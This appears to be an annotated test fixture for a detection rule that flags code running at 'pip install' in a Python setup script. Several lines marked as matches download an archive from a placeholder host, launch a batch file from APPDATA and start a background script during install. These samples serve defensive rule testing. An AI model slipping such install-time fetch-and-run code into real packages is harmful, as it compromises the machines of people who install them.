# Annotated examples for a setup script (default set): what runs at `pip install`.
import os
import subprocess
import sys
import urllib.request

from setuptools import find_packages, setup


def version():
    # ok: AIR-PERS-013
    return subprocess.check_output(["git", "describe", "--tags"]).decode().strip()


setup(name="pkg", version=version(), packages=find_packages())

# ruleid: AIR-PERS-013
path, _ = urllib.request.urlretrieve("https://example.invalid/x.zip", "x.zip")
# ruleid: AIR-PERS-013
subprocess.Popen(os.getenv("APPDATA") + "\\x.bat")
if "install" in sys.argv:
    # ruleid: AIR-PERS-013
    os.system("start pythonw x.py")
# ok: AIR-PERS-013
subprocess.check_call(["cmake", "--build", "build"])
